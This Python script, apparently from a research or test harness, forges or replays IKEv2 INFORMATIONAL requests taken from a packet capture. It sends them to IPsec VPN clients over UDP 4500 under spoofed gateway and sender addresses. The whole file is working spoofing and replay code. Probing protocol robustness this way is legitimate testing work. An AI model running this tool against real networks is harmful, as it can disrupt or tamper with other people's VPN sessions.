#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""updates.py forge|replay PCAP INTERFACE ROUTER-MAC GATEWAY OWN

What somebody sends to clients who would like to be their gateway. forge: INFORMATIONAL requests in the IKE SAs that PCAP
shows, from GATEWAY and from OWN, without the keys. replay: every INFORMATIONAL request of GATEWAY that PCAP shows, from
OWN and from GATEWAY. Both by the router towards the clients.
"""
import os
import random
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "analyse"))
import pcap  # noqa: E402
from wire import Interface, mac, udp  # noqa: E402

NAT_PORT, MARKER, HEADER = 4500, bytes(4), 28
PROTECTED, VERSION = 46, 0x20


def ike_of(frame):
    """The IKE message of a frame that pcap.parse() calls one."""
    at = 14 + (frame[14] & 15) * 4
    ports = frame[at:at + 4]
    return frame[at + 8 + (4 if ports == bytes.fromhex("11941194") else 0):]


def forged(message, rng):
    """A request of the responder's with the SPIs of that message, and nothing else that is right."""
    body = rng.randbytes(72)
    payload = bytes(2) + (4 + len(body)).to_bytes(2, "big") + body
    length = (HEADER + len(payload)).to_bytes(4, "big")
    head = message[:16] + bytes([PROTECTED, VERSION, pcap.INFORMATIONAL, 0]) + rng.choice((0, 0, 0, 1)).to_bytes(4, "big")
    return head + length + payload


def main():
    mode, path, name, router, gateway, own = sys.argv[1:]
    interface, rng, sas, requests = Interface(name), random.Random(4555), {}, []
    for time_ns, frame in pcap.frames(path):
        p = pcap.parse(time_ns, frame)
        if p.kind != pcap.IKE:
            continue
        message = ike_of(frame)
        if p.exchange == pcap.IKE_AUTH and p.response:
            sas[pcap.address(p.dst)] = message
        if p.exchange == pcap.INFORMATIONAL and not p.response and pcap.address(p.src) == gateway:
            requests.append((pcap.address(p.dst), message))
    if mode == "forge":
        requests = [(client, forged(message, rng)) for client, message in sas.items() for _ in range(20)]
    for client, message in requests:
        for source in (own, gateway):
            interface.send(mac(router), udp(source, client, NAT_PORT, MARKER + message))
    print(f"sent {len(requests)} requests to {len({c for c, _ in requests})} clients, from two addresses each")


main()
